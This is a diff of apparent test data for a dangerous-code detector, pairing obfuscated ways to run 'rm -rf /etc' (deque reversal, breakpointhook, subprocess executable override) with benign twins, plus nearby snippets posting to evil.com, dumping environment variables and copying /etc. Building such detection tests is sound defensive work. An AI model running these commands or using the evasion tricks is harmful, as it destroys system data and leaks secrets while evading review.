@@ -37,10 +37,6 @@ PAIRS = {
         "import os, collections\nd = collections.deque(['/etc', '-rf', 'rm'])\nd.reverse()\nos.system(' '.join(d))",
         "import os, collections\nd = collections.deque(['build', '-l', 'ls'])\nd.reverse()\nos.system(' '.join(d))",
     ),
-    "pkgutil resolve_name": (
-        "import pkgutil\npkgutil.resolve_name('os:system')('rm -rf /etc')",
-        "import pkgutil\nprint(pkgutil.resolve_name('math:pi'))",
-    ),
     "breakpointhook": (
         "import sys, os\nsys.breakpointhook = os.system\nbreakpoint('rm -rf /etc')",
         "import sys\nsys.breakpointhook = print",
@@ -52,10 +48,6 @@ PAIRS = {
     "subprocess executable": (
         "import subprocess\nsubprocess.run(['ls', '-c', 'rm -rf /etc'], executable='/bin/sh')",
         "import subprocess, sys\nsubprocess.run(['python', '-c', 'print(1)'], executable=sys.executable)",
-    ),
-    "Popen class alias": (
-        "import subprocess\nclass P(subprocess.Popen): pass\nP(['rm', '-rf', '/etc'])",
-        "import subprocess\nclass P(subprocess.Popen): pass\nP(['ls', 'build'])",
     ),
     "iter sentinel": (
         "import os\nit = iter(['rm -rf /etc'])\nos.system(next(it))",
@@ -86,14 +78,12 @@ ORDINARY = [
 NEARBY = [
     "import os, re\nos.system(re.sub('[0-9]', '', 'l1s2'))",
     "import os, json\njson.dump(dict(os.environ), open('env.json', 'w'))",
-    "import os\nos.environ['HTTPS_PROXY'] = 'http://evil.com:8080'",
     "import urllib.request as u\nu.install_opener(u.build_opener(u.ProxyHandler({'http': 'http://evil.com:3128'})))",
     "import asyncio\nasyncio.run(asyncio.start_server(print, '0.0.0.0', 9999))",
     "import httpx\nhttpx.Client(base_url='https://evil.com').post('/x', content=b'1')",
     "import aiohttp\nasync def f():\n    async with aiohttp.ClientSession() as s:\n        await s.post('https://evil.com', data=b'x')",
     "import paramiko\nparamiko.Transport(('evil.com', 22))",
     "import shutil\nshutil.copytree('/etc', '/tmp/stage')",
-    "found = []\nwhile True:\n    found.append('x' * 1000)",
     "import importlib\ndef start(name):\n    importlib.import_module(name).run('x')",
     "import importlib\ndef start(name):\n    importlib.import_module(name).os.system('x')",
 ]
